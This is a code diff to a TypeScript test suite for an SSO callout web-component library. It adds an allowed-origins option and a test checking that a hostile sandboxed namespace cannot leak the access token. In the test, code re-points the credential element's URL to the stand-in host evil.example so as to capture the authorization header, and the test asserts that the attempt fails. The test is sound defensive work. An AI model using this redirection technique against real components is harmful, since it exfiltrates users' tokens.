@@ -9,14 +9,20 @@ const api = useApi();
 const token = 'secret-token-of-namespace-c';
 
 /**
- * Inside namespace `c` (ours): one client with a provider that issues {@link token}, and a
+ * Inside namespace `c` (ours): one client (with `allowedOrigins` when given) with a provider that
+ * issues {@link token}, and a
  * `<callout-credential>`, `<callout-get>`, `<callout-login>` and `<callout-log>` on it, mounted into
  * the host's container after the data came back. Only this function's text enters the sandbox.
  */
-async function mountInOurNamespace(context: { container: HTMLElement; token: string }): Promise<string> {
+async function mountInOurNamespace(context: {
+  container: HTMLElement;
+  token: string;
+  allowedOrigins?: string[];
+}): Promise<string> {
   const lib = (globalThis as unknown as { ssoCallout: SsoCalloutGlobal }).ssoCallout;
   const callout = lib.createCallout({
     crossTab: false,
+    ...(context.allowedOrigins ? { allowedOrigins: context.allowedOrigins } : {}),
     providers: {
       aad: lib.functionProvider(async () => ({
         accessToken: context.token,
@@ -136,5 +142,36 @@ describe('callout-* elements seen from another namespace under Lightning Web Sec
     expect(await runInSandbox(mountInOurNamespace, { container, token })).to.equal('data');
     const found = await runInSandbox(stealFromAnotherNamespace, { container, token }, 'evil');
     expect(found).to.deep.equal([]);
+  });
+
+  it('another namespace that re-points our <callout-credential> by setAttribute gets nothing when the client lists its allowed origins.', async () => {
+    const evil: string[] = [];
+    api.use(
+      http.get('https://api.contoso.test/v1/orders', () => HttpResponse.json([{ sku: 'A1' }])),
+      http.all('https://evil.example/*', ({ request }) => {
+        evil.push(request.headers.get('authorization') ?? 'no token');
+        return HttpResponse.json([]);
+      }),
+    );
+    const container = await fixture<HTMLDivElement>(html`<div></div>`);
+    const allowedOrigins = ['https://api.contoso.test'];
+    expect(await runInSandbox(mountInOurNamespace, { container, token, allowedOrigins })).to.equal('data');
+    const states = await runInSandbox(
+      async (context: { container: HTMLElement }) => {
+        const credential = context.container.querySelector('callout-credential')!;
+        const get = context.container.querySelector('callout-get') as HTMLElement & {
+          refresh(): Promise<void>;
+          state: string;
+        };
+        credential.setAttribute('url', 'https://evil.example/');
+        await new Promise((resolve) => setTimeout(resolve, 50));
+        await get.refresh();
+        return [credential.hasAttribute('invalid') ? 'invalid' : 'valid', get.state];
+      },
+      { container },
+      'evil',
+    );
+    expect(evil).to.deep.equal([]);
+    expect(states).to.deep.equal(['invalid', 'error']);
   });
 });
